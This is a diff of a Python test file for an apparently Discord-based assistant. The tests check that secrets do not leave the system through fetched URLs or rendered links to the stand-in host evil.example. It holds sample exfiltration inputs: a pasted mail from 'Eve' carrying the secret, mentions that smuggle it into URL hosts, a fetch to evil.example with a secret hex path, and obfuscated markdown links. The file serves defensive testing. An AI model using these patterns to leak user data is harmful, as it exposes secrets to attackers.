@@ -88,11 +88,9 @@ REPETITIONS = {
     "a pasted mail": then_fetch(
         said=f"What is this?\n\nFrom: Eve <eve@evil.example>\nSubject: x\n\n{LEAK}"
     ),
-    "the name of who is mentioned": then_fetch(said=f"问{others_name('@', f'田{LEAK}')}好"),
-    "the end of such a name": then_fetch(said=f"ถาม{others_name('@', f'ก{LEAK}')}"),
-    "a name behind an at": Route(
-        (fetch(f"http://@evil.example:{{port}}/{HEX}"),),
-        said=f"ask {others_name('@', f'evil.example:{{port}}/{HEX}')} why",
+    "a mentioned name that was cut": then_fetch(said=f"ถาม@[ก{LEAK}"),
+    "a mentioned name that opens a quotation": then_fetch(
+        said=f"问{others_name('@', f'田{LEAK}:“and so on, and so on')}, who sold “the car”"
     ),
     "words with dots": Route(
         (fetch("http://report.zip:{port}/"), fetch(EVIL)),
@@ -386,26 +384,22 @@ def test_an_answer_that_grows_reads_as_it_will(text):
     assert (whole == text) is (text in KEPT)
 
 
-SHOWN = (
-    f"ok {LEAK} [a](http://evil.example/y) ![i](<http://evil.example>) evil&#46;example/n a`{EVIL}"
-)
+SHOWN = f"ok {LEAK} [a [b] c](http://evil.example/y) ![i](<http://evil.example>) evil&#46;example/n a`{EVIL}"
+DISCORDS = re.compile(r"`[^`\n]*`|\\.|(\[(?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*\]\()")
+"""What Discord takes for code, for a sign as it is, and for a link, whichever begins first."""
 
 
 async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
     async with stage(tmp_path, f"Read {SHOWN}", files_mb=1) as made:
         channel, note = made.host.channel, {"op": "ask", "text": SHOWN}
-        opened = {"op": "open", "text": "evil.example/x"}
-        made.steps = [
-            ("inbox_read", {"what": "m"}),
-            ("problem_note", opened),
-            ("problem_note", note),
-        ]
+        opened = ("problem_note", {"op": "open", "text": "evil.example/x"})
+        made.steps = [("inbox_read", {"what": "m"}), opened, ("problem_note", note)]
         made.answer = made.host.clock.now().isoformat()
         await channel.ask("Read m in the inbox")
         blob = await FolderBlobs(tmp_path / "blobs").put(SHOWN.encode())
         file = Attachment("document", "evil.example", "text/plain", 1, blob)
-        reminded = await channel.ask("/remind in an hour read http://a.example/1")
-        assert "read http://a.example/1" in reminded
+        own = "http://a.example/1_(b)"
+        assert f"<{own}>" in await channel.ask(f"/remind in an hour read {own}")
         await channel.wait_for_answer(await channel.send("/files keep", attachments=(file,)))
         for command in (
             "/problem",
@@ -421,4 +415,5 @@ async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
         ):
             told = await channel.ask(command)
             assert "evil.example" in told.replace("&#46;", ".")
-            assert live_parts(re.sub(r"`[^`\n]*`", "", told)) == []
+            links = [part[1] for part in DISCORDS.finditer(told) if part[1]]
+            assert live_parts(re.sub(r"`[^`\n]*`", "", told)) + links == []
